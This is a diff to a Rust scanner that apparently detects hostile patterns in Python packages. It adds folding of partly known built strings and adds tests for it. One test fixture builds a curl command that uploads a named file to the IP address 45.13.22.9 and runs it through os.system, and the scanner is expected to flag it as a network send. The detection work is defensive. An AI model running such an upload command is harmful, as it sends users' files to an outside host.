@@ -554,6 +554,11 @@ impl<'s> Checker<'s> {
                         Some(qualname) => self.scopes.bind_alias(id, qualname),
                         None => self.scopes.unbind(id),
                     }
+                } else if is_string_building(value)
+                    && let Some(partial) =
+                        self.scopes.fold_lossy(value).filter(|p| p.len() <= 4_096)
+                {
+                    self.scopes.bind_partial(id, partial);
                 } else {
                     self.scopes.unbind(id);
                 }
@@ -964,6 +969,18 @@ fn lambda_wrapper(lambda: &ast::ExprLambda) -> Option<crate::resolve::Wrapper> {
     })
 }
 
+/// Expressions that build a string from parts: concatenation, `%`, f-strings, `.format`.
+fn is_string_building(expr: &Expr) -> bool {
+    match expr {
+        Expr::BinOp(binop) => matches!(binop.op, ast::Operator::Add | ast::Operator::Mod),
+        Expr::FString(_) => true,
+        Expr::Call(call) => {
+            matches!(&*call.func, Expr::Attribute(a) if a.attr.as_str() == "format")
+        }
+        _ => false,
+    }
+}
+
 /// Expressions whose value is a reference worth aliasing (`x = os.system`, `m = __import__('os')`).
 fn is_reference(expr: &Expr) -> bool {
     matches!(
@@ -1312,5 +1329,30 @@ mod more_tests {
     fn base64_encode(bytes: &[u8]) -> String {
         use base64::Engine;
         base64::engine::general_purpose::STANDARD.encode(bytes)
+    }
+}
+
+#[cfg(test)]
+mod partial_tests {
+    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+    use crate::rules::testing::findings;
+
+    #[test]
+    fn partly_known_commands_keep_their_known_parts() {
+        let code = "import os\ndef up(name):\n    command = \"curl -k -F \\\"file=@\" + name + \"\\\" https://45.13.22.9/upload\"\n    os.system(command)\n";
+        let found = findings("p/pkg/api.py", code);
+        assert!(
+            found
+                .iter()
+                .any(|f| f.rule == "WH130" && f.has_tag("net-send")),
+            "{found:?}"
+        );
+        // A partly known string is never a value: exec of it is not a literal layer.
+        let code = "def f(x):\n    code = 'print(' + x + ')'\n    exec(code)\n";
+        assert!(
+            findings("p/pkg/m.py", code)
+                .iter()
+                .all(|f| !f.path.contains("#layer"))
+        );
     }
 }
